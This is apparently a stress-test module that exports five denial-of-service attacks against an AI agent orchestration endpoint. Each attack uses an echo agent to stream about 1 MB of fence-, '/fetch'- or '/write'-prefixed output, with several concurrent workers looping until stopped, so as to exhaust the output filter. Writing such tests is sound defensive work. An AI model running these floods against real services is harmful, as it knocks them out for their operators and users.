import { setTimeout as delay } from 'node:timers/promises';

interface Target {
  url: string;
  headers: Record<string, string>;
}

/** `demo/echo` says what it is told, word by word: so an attacker chooses the deltas of a model without having one. */
const ECHO = { id: 'echo', name: 'Echo', role: 'repeats', goal: 'repeat', model: 'demo/echo' };
const MB = 1_000_000;
const AT_ONCE = 4;
/** The pause after a refusal. */
const REFUSED_MS = 20;

/** @param start how the answer begins @param repeated what it goes on with, up to 1 MB */
const attack = (what: string, start: string, repeated: string) => ({
  name: `filter: ${what}`,
  async run({ url, headers }: Target, signal: AbortSignal): Promise<void> {
    const message = start + repeated.repeat((MB - start.length) / repeated.length);
    const body = JSON.stringify({ message, agent_def: ECHO });
    const send = async (): Promise<boolean> => {
      const response = await fetch(`${url}/v1/orchestrate`, { method: 'POST', headers, body, signal });
      for await (const _ of response.body!);
      return response.ok;
    };
    const worker = async (): Promise<void> => {
      while (!signal.aborted) if (!(await send().catch(() => false))) await delay(REFUSED_MS);
    };
    await Promise.all(Array.from({ length: AT_ONCE }, worker));
  },
});

/** Answers that are cheap to write and were dear to read: one long line in half a million deltas, and the like. */
export const attacks = [
  attack('1 MB in a line that begins with a fence', '```', ' x'),
  attack('1 MB behind a fence that may close', '```\n```', ' x'),
  attack('1 MB in the line of a command', '/fetch', ' x'),
  attack('1 MB in a block that does not end', '/write a.txt\n', ' x'),
  attack('333,333 lines that are almost commands', '', '\n/f'),
];
